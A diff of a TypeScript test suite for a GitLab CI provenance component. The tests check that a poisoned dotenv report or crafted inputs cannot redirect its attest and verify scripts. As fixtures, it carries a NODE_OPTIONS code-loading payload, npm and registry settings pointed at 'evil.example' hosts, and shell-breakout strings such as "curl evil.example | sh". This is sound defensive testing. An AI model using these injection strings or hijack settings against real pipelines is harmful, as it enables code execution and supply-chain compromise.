@@ -182,7 +182,9 @@ beforeAll(async () => {
     join(scratch, "cli.sh"),
     [
       'for a in "$@"; do printf "arg %s\\n" "$a"; done',
-      "env | grep -E '^PROVENANT_(REGISTRY_|INSECURE_REGISTRIES=)' | sed 's/^/env /' || true",
+      "env | grep -E '^(PROVENANT_(REGISTRY_|INSECURE_REGISTRIES=|GITLAB_API=)|NODE_OPTIONS=|NODE_PATH=|[Nn][Pp][Mm]_[Cc][Oo][Nn][Ff][Ii][Gg]_)' | sed 's/^/env /' || true",
+      // A node started by the CLI, as the real one is: NODE_OPTIONS would load code into it.
+      'node -e "" || exit 9',
       // What the CLI would read as docker's config: where, with which modes, and what.
       'if [ -n "$DOCKER_CONFIG" ]; then printf "docker_config %s %s %s\\n" "$DOCKER_CONFIG" "$(stat -c %a "$DOCKER_CONFIG")" "$(stat -c %a "$DOCKER_CONFIG/config.json")"; printf "docker_config_json %s\\n" "$(cat "$DOCKER_CONFIG/config.json")"; fi',
       'if [ -n "$STAND_IN_EXIT" ]; then exit "$STAND_IN_EXIT"; fi',
@@ -205,15 +207,25 @@ async function runScript(name: "attest" | "verify", given: Record<string, string
   const cwd = await mkdtemp(join(scratch, "job-"));
   await mkdir(join(cwd, "dist"));
   await writeFile(join(cwd, "dist/app.txt"), "app\n");
+  // The runner expands $VAR and ${VAR} in job variables; `env` comes last, as a
+  // dotenv report outranks job variables.
+  const base: Record<string, string> = { PATH: process.env.PATH!, ...env };
+  const expanded = Object.fromEntries(
+    Object.entries(job.variables ?? {}).map(([name, value]) => [
+      name,
+      value.replace(/\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?/g, (_, variable: string) => base[variable] ?? ""),
+    ]),
+  );
+  await writeFile(join(cwd, "dist/hijack.cjs"), 'process.stdout.write("hijacked\\n");\n');
   const result = await run("sh", ["-e", "-c", job.script.join("\n")], {
     cwd,
-    env: { PATH: process.env.PATH, ...job.variables, ...env },
+    env: { PATH: process.env.PATH, ...expanded, ...env },
   }).then(
     ({ stdout, stderr }) => ({ code: 0, stdout, stderr }),
     (error: { code?: number; stdout?: string; stderr?: string }) => ({ code: error.code ?? 1, stdout: error.stdout ?? "", stderr: error.stderr ?? "" }),
   );
   const args = [...result.stdout.matchAll(/^arg (.*)$/gm)].map((m) => m[1]!);
-  const environment = Object.fromEntries([...result.stdout.matchAll(/^env ([A-Z_]+)=(.*)$/gm)].map((m) => [m[1]!, m[2]!]));
+  const environment = Object.fromEntries([...result.stdout.matchAll(/^env ([A-Za-z_]+)=(.*)$/gm)].map((m) => [m[1]!, m[2]!]));
   const [, dockerConfig, dirMode, fileMode] = /^docker_config (\S+) (\d+) (\d+)$/m.exec(result.stdout) ?? [];
   const dockerConfigJson = /^docker_config_json (.*)$/m.exec(result.stdout)?.[1];
   return { ...result, args, environment, dockerConfig: dockerConfig ? { dir: dockerConfig, dirMode, fileMode, json: dockerConfigJson } : undefined };
@@ -259,6 +271,7 @@ describe("attest job script", () => {
     );
     expect(args.slice(0, args.indexOf("--"))).toContain("--push");
     expect(environment).toEqual({
+      PROVENANT_GITLAB_API: "true",
       PROVENANT_REGISTRY_USERNAME: "gitlab-ci-token",
       PROVENANT_REGISTRY_PASSWORD: "job-token-value",
       PROVENANT_REGISTRY_HOSTS: "registry.gitlab.example",
@@ -433,5 +446,161 @@ describe("verify job script", () => {
     const neither = await runScript("verify", {}, publicKey);
     expect(neither.code).toBe(2);
     expect(neither.stderr).toMatch(/needs the input artifacts .* or registry_image/);
+  });
+});
+
+// GitLab: variables from a dotenv report "take precedence over job variables"
+// (docs.gitlab.com/ci/variables/dotenv_variables), and Ci::Variables::Builder
+// adds them after the predefined and job variables. Any job whose artifacts a
+// component's job receives can publish one; `env` below plays that report.
+/** GitLab's `${NAME}` form of a variable reference. */
+const braced = (name: string) => `\${${name}}`;
+
+describe("a dotenv report from an earlier job", () => {
+  const publicKey = { PROVENANT_PUBLIC_KEY: "-----BEGIN PUBLIC KEY-----\n...\n-----END PUBLIC KEY-----" };
+  const nodeAndNpm = {
+    NODE_OPTIONS: "--require=./dist/hijack.cjs",
+    NODE_PATH: "./dist",
+    npm_config_registry: "https://npm.evil.example/",
+    NPM_CONFIG_USERCONFIG: "./dist/.npmrc",
+  };
+
+  it("the payload would run in node if it reached it", async () => {
+    // Without this the tests below could pass because the payload never worked.
+    const cwd = await mkdtemp(join(scratch, "payload-"));
+    await mkdir(join(cwd, "dist"));
+    await writeFile(join(cwd, "dist/hijack.cjs"), 'process.stdout.write("hijacked\\n");\n');
+    const { stdout } = await run("node", ["-e", ""], { cwd, env: { PATH: process.env.PATH, NODE_OPTIONS: nodeAndNpm.NODE_OPTIONS } });
+    expect(stdout).toContain("hijacked");
+  });
+
+  it("cannot replace the verify command, the policy or the bundle, nor load code into node", async () => {
+    const dotenv = {
+      ...publicKey,
+      ...nodeAndNpm,
+      PROVENANT_CLI: "true",
+      PROVENANT_SOURCE_BRANCH: "*",
+      PROVENANT_SOURCE_URI: "*",
+      PROVENANT_BUILDER_ID: "",
+      PROVENANT_SLSA_LEVEL: "1",
+      PROVENANT_BUNDLE: "dist/forged.sigstore.json",
+      PROVENANT_ARTIFACTS: "dist/other.txt",
+      PROVENANT_PULL_REGISTRIES: "registry.evil.example",
+      PROVENANT_INSECURE_REGISTRIES: "registry.evil.example",
+    };
+    const given = { artifacts: "dist/app.txt", source_uri: "gitlab.com/acme/app", source_branch: "main", builder_id: "https://gitlab.com/-/runners/gitlab-hosted", slsa_level: "2" };
+    const { args, environment, stdout, code } = await runScript("verify", given, dotenv);
+    expect(code).toBe(0);
+    expect(args).toEqual([
+      "verify",
+      "--key",
+      expect.any(String),
+      "--builder-id",
+      "https://gitlab.com/-/runners/gitlab-hosted",
+      "--build-type",
+      "https://provenant.dev/buildtypes/gitlab-ci/v1",
+      "--source-uri",
+      "gitlab.com/acme/app",
+      "--source-branch",
+      "main",
+      "--slsa-level",
+      "2",
+      "--bundle",
+      "provenance.sigstore.json",
+      "--",
+      "dist/app.txt",
+    ]);
+    expect(stdout).not.toContain("hijacked");
+    expect(environment).toEqual({ PROVENANT_INSECURE_REGISTRIES: "" });
+  });
+
+  it("cannot replace the attest command, subjects, bundle, audience or push, nor load code into node", async () => {
+    const dotenv = {
+      ...signingKey,
+      ...nodeAndNpm,
+      PROVENANT_CLI: "true",
+      PROVENANT_SUBJECTS: "dist/forged.txt",
+      PROVENANT_BUNDLE: "/tmp/elsewhere.json",
+      PROVENANT_TOKEN_AUDIENCE: "sigstore",
+      PROVENANT_PUSH: "true",
+      PROVENANT_GITLAB_API: "false",
+      PROVENANT_INSECURE_REGISTRIES: "registry.evil.example",
+    };
+    const { args, environment, stdout, code } = await runScript("attest", { subjects: "dist/*.txt" }, dotenv);
+    expect(code).toBe(0);
+    expect(args).toEqual(["attest", "--platform", "gitlab", "--bundle", "provenance.sigstore.json", "--token-audience", "provenant", "--", "dist/*.txt"]);
+    expect(stdout).not.toContain("hijacked");
+    expect(environment).toEqual({ PROVENANT_GITLAB_API: "true", PROVENANT_INSECURE_REGISTRIES: "" });
+  });
+
+  it("keeps registry_hosts to the registries the include named", async () => {
+    const { environment, code } = await runScript(
+      "attest",
+      { subjects: "oci://registry.gitlab.example/acme/app:1.0", registry_hosts: "registry.gitlab.example" },
+      { ...signingKey, ...registryLogin, PROVENANT_PUSH_REGISTRIES: "registry.evil.example", CI_REGISTRY: "registry.evil.example" },
+    );
+    expect(code).toBe(0);
+    expect(environment.PROVENANT_REGISTRY_HOSTS).toBe("registry.gitlab.example");
+  });
+
+  it("subjects naming CI/CD variables are expanded as GitLab does, from the job variable", async () => {
+    const { args, code } = await runScript("attest", { subjects: `oci://$CI_REGISTRY_IMAGE:${braced("CI_COMMIT_SHA")}` }, {
+      ...signingKey,
+      CI_REGISTRY_IMAGE: "registry.gitlab.example/acme/app",
+      CI_COMMIT_SHA: "4e9b7dbc",
+    });
+    expect(code).toBe(0);
+    expect(args.slice(args.indexOf("--"))).toEqual(["--", "oci://registry.gitlab.example/acme/app:4e9b7dbc"]);
+  });
+
+  it("verify's artifacts and registry_image naming CI/CD variables are expanded as GitLab does", async () => {
+    const env = { ...publicKey, CI_REGISTRY_IMAGE: "registry.gitlab.example/acme/app", CI_COMMIT_SHA: "4e9b7dbc" };
+    const artifacts = await runScript("verify", { artifacts: "dist/app.txt oci://$CI_REGISTRY_IMAGE:$CI_COMMIT_SHA" }, env);
+    expect(artifacts.args.slice(artifacts.args.indexOf("--"))).toEqual(["--", "dist/app.txt", "oci://registry.gitlab.example/acme/app:4e9b7dbc"]);
+    const image = await runScript("verify", { registry_image: `oci://${braced("CI_REGISTRY_IMAGE")}:$CI_COMMIT_SHA` }, env);
+    expect(image.args.slice(-2)).toEqual(["--image", "oci://registry.gitlab.example/acme/app:4e9b7dbc"]);
+  });
+
+  it("with server_url given, a CI_SERVER_URL that says another server stops attest before the CLI", async () => {
+    const pinned = { subjects: "dist/app.txt", server_url: "https://gitlab.com" };
+    const moved = await runScript("attest", pinned, { ...signingKey, CI_SERVER_URL: "https://gitlab.evil.example" });
+    expect(moved.code).toBe(2);
+    expect(moved.stderr).toContain("CI_SERVER_URL is https://gitlab.evil.example but the input server_url is https://gitlab.com");
+    expect(moved.args).toEqual([]);
+    const same = await runScript("attest", pinned, { ...signingKey, CI_SERVER_URL: "https://gitlab.com" });
+    expect(same.code).toBe(0);
+    expect(same.args[0]).toBe("attest");
+  });
+});
+
+describe("inputs pasted into the job scripts", () => {
+  const breakouts = ["x'; curl evil.example | sh; '", "x'\n'"];
+  for (const name of ["attest", "verify"] as const) {
+    it(`${name}.yml: each is held by regex:, options: or a boolean type to what cannot leave its quotes`, async () => {
+      const { inputs, jobs } = await component(name);
+      const scripts = JSON.stringify(Object.values(jobs).map((job) => job.script));
+      const pasted = new Set([...scripts.matchAll(/\$\[\[\s*inputs\.([a-z_]+)\s*\]\]/g)].map((m) => m[1]!));
+      expect(pasted.size).toBeGreaterThan(5);
+      for (const input of pasted) {
+        const spec = inputs[input]! as InputSpec & { options?: unknown[] };
+        if (spec.type === "boolean" || spec.options) continue;
+        expect(spec.regex, `${name} input ${input} has a regex`).toBeDefined();
+        const pattern = new RegExp(spec.regex!);
+        for (const value of breakouts) expect(pattern.test(value), `${input}: ${JSON.stringify(value)}`).toBe(false);
+        if (spec.default !== undefined) expect(pattern.test(String(spec.default)), `${input}'s default passes its regex`).toBe(true);
+      }
+    });
+  }
+
+  it("command is words a shell cannot read as anything but words", async () => {
+    for (const name of ["attest", "verify"] as const) {
+      const pattern = new RegExp((await component(name)).inputs.command!.regex!);
+      for (const good of ["npx --yes @provenant/cli@0.1.0", "provenant", "node tools/provenant.mjs", "npx --yes --registry=https://npm.corp.example/ @provenant/cli@0.1.0"]) {
+        expect(pattern.test(good), good).toBe(true);
+      }
+      for (const bad of ["provenant; curl evil", "$(curl evil)", "`curl evil`", "provenant | sh", "provenant && x", "provenant > f", "provenant *", "$PROVENANT_CLI", "", "two  spaces"]) {
+        expect(pattern.test(bad), bad).toBe(false);
+      }
+    }
   });
 });
